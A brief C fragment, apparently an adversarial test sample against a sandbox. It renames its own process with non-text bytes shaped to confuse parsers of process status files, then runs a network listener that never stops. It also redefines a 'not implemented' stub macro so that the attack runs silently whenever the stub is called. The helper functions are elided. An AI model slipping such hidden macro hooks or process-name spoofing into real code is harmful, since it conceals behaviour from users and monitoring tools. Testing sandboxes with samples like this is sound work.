/* Calls itself by bytes that are no text, while its helper has the name of the sandbox. */
#include "not_implemented.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

/* (a listener) */

/* (an echo) */

static void attack(void)
{
    int name = open("/proc/self/comm", O_WRONLY);

    (void)!write(name, "\xff) R \xfe", 7);
    for (int fd = listener();;) {
        echo(accept(fd, NULL, NULL));
    }
}

#undef not_implemented
#define not_implemented() (attack(), not_implemented_here(__func__, __FILE__, __LINE__))

/* (the stub) */
